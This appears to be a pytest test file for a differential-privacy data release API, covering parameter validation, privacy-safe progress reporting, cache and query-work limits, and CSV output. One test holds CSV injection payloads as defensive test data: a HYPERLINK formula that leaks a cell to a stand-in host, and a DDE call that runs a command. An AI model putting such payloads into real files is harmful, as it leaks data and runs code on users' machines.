    """Paper 002's Delta_max lies in (0, 1) (Theorem 3.2): the preview and the request
    refuse 1, 1.5 and Infinity. They accepted them, the request recorded a release that
    the worker then failed ("delta_max (inf) must lie in (0, 1)"), and Infinity was stored
    and shown as null."""
    dataset_id, _ = _table(client, curator, n=600, allow_non_dp_releases=True)
    headers = {**curator.headers, "Content-Type": "application/json"}
    for delta_max in ("1", "1.5", "Infinity"):
        # 'Infinity' as the bare token the service's JSON parser accepts
        body = '{"mechanism": "compressed", "params": {"delta_max": ' + delta_max + "}}"
        for path in ("preview", "releases"):
            refused = client.post(
                f"/v1/datasets/{dataset_id}/{path}", headers=headers, content=body
            )
            assert refused.status_code == 422, (delta_max, path, refused.text)
            assert "params.delta_max" in refused.json()["error"]["message"], refused.text
    assert client.get(f"/v1/datasets/{dataset_id}/releases", headers=curator.headers).json() == []
    assert budget(client, curator, dataset_id)["entries"] == []


def test_graph_progress_is_a_function_of_its_vertices_only(
    client: TestClient, curator: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Progress while measuring is rows read / stored rows, published every heartbeat. For a
    # graph the stored rows are its edges, a private count that whole-batch fractions would
    # give exactly: its read publishes nothing (it still checks for a cancel, see
    # test_a_graph_cancel_seen_before_reading_refunds). The flips after it, block by block
    # of the |V| (|V| - 1) / 2 pairs, publish the same values for any two graphs on the
    # same vertices. A table's row count is public and keeps its progress.
    from app.mechanisms import graph_cuts as gc
    from app.releases.adapters import graph_cuts as adapter

    monkeypatch.setattr(gc, "_BLOCK_PAIRS", 8)  # 15 pairs at 6 vertices: 2 blocks
    published: dict[str, list[float]] = {}
    original = stages.Heartbeat.set_progress

    def spy(self: stages.Heartbeat, fraction: float) -> None:
        published.setdefault(str(self.claim.release_id), []).append(fraction)
        original(self, fraction)

    monkeypatch.setattr(stages.Heartbeat, "set_progress", spy)
    releases = {}
    for name, content in (("sparse", b"0 1\n"), ("dense", b"0 1\n1 2\n2 3\n0 3\n4 5\n1 5\n")):
        graph_id = upload_graph(
            client,
            curator,
            content,
            {"name": name, "kind": "graph", "vertices": 6, "budget": {"epsilon": 5}},
        ).json()["id"]
        releases[name] = (graph_id, "graph_cuts")
    releases["table"] = (_table(client, curator, n=50)[0], "randomized_response")
    for name, (dataset_id, mechanism) in releases.items():
        release_id = request_release(
            client, curator, dataset_id, {"mechanism": mechanism, "epsilon": 1}
        ).json()["id"]
        stages.run_measure(services_of(client), uuid.UUID(release_id))
        done = client.get(f"/v1/releases/{release_id}", headers=curator.headers).json()
        assert done["status"] == "synthesizing", done
        releases[name] = (release_id, mechanism)
    share = adapter.MEASURE_READ_SHARE
    flips = [stages.MEASURED_PROGRESS * (share + (1 - share) * k) for k in (8 / 15, 1.0)]
    assert published[releases["sparse"][0]] == pytest.approx(flips)
    assert published[releases["dense"][0]] == published[releases["sparse"][0]]
    assert published[releases["table"][0]] == [0.99]


def test_answer_cache_is_bounded_by_bytes(
    client: TestClient, curator: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Decoded releases are kept within CURATOR_ANSWER_CACHE_BYTES (an audit held 3.2 GB in
    one 20000-vertex graph release, with room for sixteen), measured after answering so that
    anything built by the first answer is counted; a release larger than the limit is
    answered and not kept. A loaded graph release is its bit matrix (|V| ceil(|V|/8) bytes),
    not its noisy edges (a later audit: 9.5e7 edges, GBs, at 20,000 vertices)."""
    from app.answers.service import _cache

    n = 300
    content = ("\n".join(f"{v} {v + 1}" for v in range(n - 1)) + "\n").encode()
    # epsilon 0.01: about half of the 44850 vertex pairs released as edges
    releases = [_graph_release(client, curator, content, n, 0.01)[1] for _ in range(2)]
    keys = [(uuid.UUID(r), 0) for r in releases]
    query = [{"type": "cut", "S": list(range(150)), "T": list(range(150, n))}]
    settings = services_of(client).settings
    _cache.clear()
    first = _answers(client, curator, releases[0], query).json()["answers"][0]["value"]
    assert keys[0] in _cache
    one = _cache.nbytes
    matrix = n * ((n + 7) // 8)  # 11,400 bytes; about 22,000 noisy edges
    assert matrix <= one < 2 * matrix
    monkeypatch.setattr(settings, "answer_cache_bytes", int(1.5 * one))
    _answers(client, curator, releases[1], query)
    assert keys[1] in _cache
    assert keys[0] not in _cache
    assert _cache.nbytes <= settings.answer_cache_bytes
    monkeypatch.setattr(settings, "answer_cache_bytes", one // 2)
    _cache.clear()
    again = _answers(client, curator, releases[0], query).json()["answers"][0]["value"]
    assert again == first
    assert keys[0] not in _cache
    assert _cache.nbytes == 0


def test_cut_answers_bound_one_requests_work(
    client: TestClient, curator: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A cut reads min(|S|, |T|) rows of ceil(|V|/8) bytes of the noisy bit matrix (twice)
    plus a fixed overhead (parsing, masks, the exact interval: 0.2-1.5 ms a query). A batch
    whose queries times that work exceeds graph_cuts.MAX_CUT_WORK is refused with a 422
    saying how many fit. (The bound counted the released edges when a cut was a product
    with the edge list; since the resource audit a cut no longer reads them.)"""
    from app.releases.adapters import graph_cuts as adapter

    n = 300
    content = ("\n".join(f"{v} {v + 1}" for v in range(n - 1)) + "\n").encode()
    _, release_id = _graph_release(client, curator, content, n, 0.01)
    query = {"type": "cut", "S": [0], "T": [1]}
    default = getattr(adapter, "MAX_CUT_WORK", None)
    per_query = 2 * 1 * ((n + 7) // 8) + n + adapter.QUERY_OVERHEAD
    monkeypatch.setattr(adapter, "MAX_CUT_WORK", 10 * per_query, raising=False)
    refused = _answers(client, curator, release_id, [query] * 40)
    assert refused.status_code == 422, refused.text
    message = refused.json()["error"]["message"]
    assert "split the batch" in message, message
    assert "at most 10 per request" in message, message
    answered = _answers(client, curator, release_id, [query] * 3)
    assert answered.status_code == 200, answered.text
    # the default: 1000 small cuts fit; 1000 half splits of 20,000 vertices (36 ms each
    # measured) do not, nor 100,000 tiny cuts (0.2-1.5 ms each)
    assert default is not None
    assert 1000 * per_query <= default
    assert default < 1000 * (2 * 10_000 * 2500 + 20_000)
    assert default < 100_000 * adapter.QUERY_OVERHEAD


def test_answers_in_progress_leave_sessions_to_other_requests(
    client: TestClient, curator: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Answering holds no session: with more answer requests in progress than there are
    session slots, a request that needs a session (GET /v1/datasets) is still served
    (answers used to hold a read session while decoding and answering)."""
    from app.answers import service as answers
    from app.core.deps import MAX_CONCURRENT_TRANSACTIONS
    from app.releases import registry

    # more answers computing at once than there are session slots: answer_slots lets 4
    # compute at once, 2 of one user's (the limiters are made on first use, after this)
    monkeypatch.setattr(answers.answer_slots, "total", MAX_CONCURRENT_TRANSACTIONS + 1)
    monkeypatch.setattr(answers.answer_slots, "per_caller", MAX_CONCURRENT_TRANSACTIONS + 1)
    _, release_id = _graph_release(client, curator, b"0 1\n1 2\n", 4, 1.0)
    query = [{"type": "cut", "S": [0], "T": [1]}]
    assert_sessions_free_while_held(
        client,
        curator,
        monkeypatch,
        type(registry.get("graph_cuts")),
        "answer",
        lambda: _answers(client, curator, release_id, query).status_code,
    )


def test_cut_work_counts_the_smaller_side_of_the_largest_cut_in_the_batch(
    client: TestClient, curator: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A batch's work is its queries times the work of its largest cut: 2 min(|S|, |T|)
    rows of ceil(|V|/8) bytes plus |V| plus QUERY_OVERHEAD (set to 0 here so that the
    rows count). At 300 vertices (38-byte rows) a cut of 5 against 100 vertices is 2 * 5
    * 38 + 300 = 680 units, whichever side is the smaller and wherever it is in the
    batch; the limit is reached, not passed."""
    from app.releases.adapters import graph_cuts as adapter

    n = 300
    content = ("\n".join(f"{v} {v + 1}" for v in range(n - 1)) + "\n").encode()
    _, release_id = _graph_release(client, curator, content, n, 0.5)
    small = {"type": "cut", "S": [0], "T": [1]}
    five = list(range(5))
    hundred = list(range(100, 200))
    large = [{"type": "cut", "S": five, "T": hundred}, {"type": "cut", "S": hundred, "T": five}]
    batch = [small, *large, *large, *large]  # 7 queries, the small one first
    per_query = 2 * 5 * ((n + 7) // 8) + n
    assert per_query == 680
    monkeypatch.setattr(adapter, "QUERY_OVERHEAD", 0)
    monkeypatch.setattr(adapter, "MAX_CUT_WORK", 7 * per_query)
    answered = _answers(client, curator, release_id, batch)
    assert answered.status_code == 200, answered.text
    monkeypatch.setattr(adapter, "MAX_CUT_WORK", 7 * per_query - 1)
    refused = _answers(client, curator, release_id, batch)
    assert refused.status_code == 422, refused.text
    message = refused.json()["error"]["message"]
    assert "at most 6 per request" in message, message
    assert "up to 10 rows of 38 bytes of the noisy adjacency" in message, message


def test_a_compressed_measure_publishes_progress_while_it_draws_phi(
    client: TestClient, curator: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The draw of Phi, with the second read, is most of a compressed measure; the first
    read (the covariance) took the published progress to 0.99, where it stood through the
    draw. The first read now fills MEASURE_READ_SHARE, and each block of Phi moves the
    progress on, increasing to 0.99."""
    from app.releases.adapters import compressed as compressed_adapter

    seen = published_progress(monkeypatch)
    dataset_id, _ = _table(client, curator, n=600, allow_non_dp_releases=True)
    monkeypatch.setattr(cp, "_BLOCK_ENTRIES", 1)  # a row a block: 600 blocks
    body = {"mechanism": "compressed", "columns": ["age", "weight"], "params": {"delta_max": 0.05}}
    release_id = request_release(client, curator, dataset_id, body).json()["id"]
    stages.run_measure(services_of(client), uuid.UUID(release_id))
    release = client.get(f"/v1/releases/{release_id}", headers=curator.headers).json()
    assert release["status"] == "synthesizing", release
    read_top = stages.MEASURED_PROGRESS * compressed_adapter.MEASURE_READ_SHARE
    assert seen[0] == pytest.approx(read_top)  # the first read: one batch
    beyond = [value for value in seen if value > read_top]
    assert len(beyond) == 600
    assert all(a <= b for a, b in itertools.pairwise(seen)), seen
    assert all(a < b for a, b in itertools.pairwise(beyond))
    assert max(seen) == stages.MEASURED_PROGRESS


def test_sample_csv_quotes_text_cells_a_spreadsheet_would_read_as_formulas(
    client: TestClient, curator: Caller
) -> None:
    """A randomized_response release's CSV carries its public column's values as uploaded,
    which no declaration rule restricts: a data subject's "=HYPERLINK(...)" or DDE call
    (CSV injection) opened live in the analyst's spreadsheet. Text cells starting with =,
    +, -, @, tab or CR are prefixed with a single quote (OWASP), unless they are a plain
    number; numbers are never touched (a negative midpoint stays a number). The Parquet
    file keeps every value as uploaded."""
    import csv

    hostile = [
        '=HYPERLINK("http://example.invalid/?leak="&A2,"open")',
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "+1+2",
        "-1",
        "+2.5",
        "plain",
    ]
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(["temp", "note"])
    for i in range(40):
        writer.writerow([f"{-50 + i:.1f}", hostile[i % len(hostile)]])
    schema = {
        "name": "notes",
        "columns": [
            {"name": "temp", "kind": "continuous", "lower": -50, "upper": -10},
            {"name": "note", "kind": "public"},
        ],
        "budget": {"epsilon": 10, "delta": 1e-6},
    }
    uploaded = upload(client, curator, text.getvalue().encode(), schema)
    assert uploaded.status_code == 201, uploaded.text
    body = {"mechanism": "randomized_response", "epsilon": 2.0, "columns": ["temp", "note"]}
    release_id = request_release(client, curator, uploaded.json()["id"], body).json()["id"]
    run_all(client, release_id)

    def download(name: str) -> bytes:
        response = client.get(
            f"/v1/releases/{release_id}/artifacts/{name}", headers=curator.headers
        )
        assert response.status_code == 200, response.text
        return response.content

    rows = list(csv.reader(io.StringIO(download("sample.csv").decode())))
    assert rows[0] == ["temp", "note"]
    notes = {row[1] for row in rows[1:]}
    escaped = {"'" + value for value in hostile[:4]}
    assert notes == escaped | {"-1", "+2.5", "plain"}
    temps = [row[0] for row in rows[1:]]
    assert all(float(t) < 0 and not t.startswith("'") for t in temps)
    table = pq.read_table(io.BytesIO(download("sample.parquet")))
    assert set(table.column("note").to_pylist()) == set(hostile)


def test_a_second_compressed_request_after_a_deletion_of_the_files_says_to_resynthesise(
    client: TestClient, curator: Caller
) -> None:
    """A dataset gets one compressed release; once its curator deleted its files, a new
    request is still refused, and told to re-synthesise it (it said "use that release",
    which serves nothing then)."""
    dataset_id, _ = _table(client, curator, n=600, allow_non_dp_releases=True)
    body = {"mechanism": "compressed", "columns": ["age", "weight"], "params": {"delta_max": 0.5}}
    release_id = finished_release(client, curator, dataset_id, body)["id"]
    deleted = client.delete(f"/v1/releases/{release_id}/artifacts", headers=curator.headers)
    assert deleted.status_code == 200, deleted.text
    for path in ("preview", "releases"):
        refused = client.post(
            f"/v1/datasets/{dataset_id}/{path}", headers=curator.headers, json=body
        )
        assert refused.status_code == 409, refused.text
        message = refused.json()["error"]["message"]
        assert message.endswith("its curator deleted its files: re-synthesise it (no budget)")
    url = f"/v1/releases/{release_id}/resynthesize"
    assert client.post(url, headers=curator.headers, json={"params": {}}).status_code == 202
    stages.run_synthesize(services_of(client), uuid.UUID(release_id))
    refused = request_release(client, curator, dataset_id, body)
    assert refused.json()["error"]["message"].endswith("; use that release"), refused.text
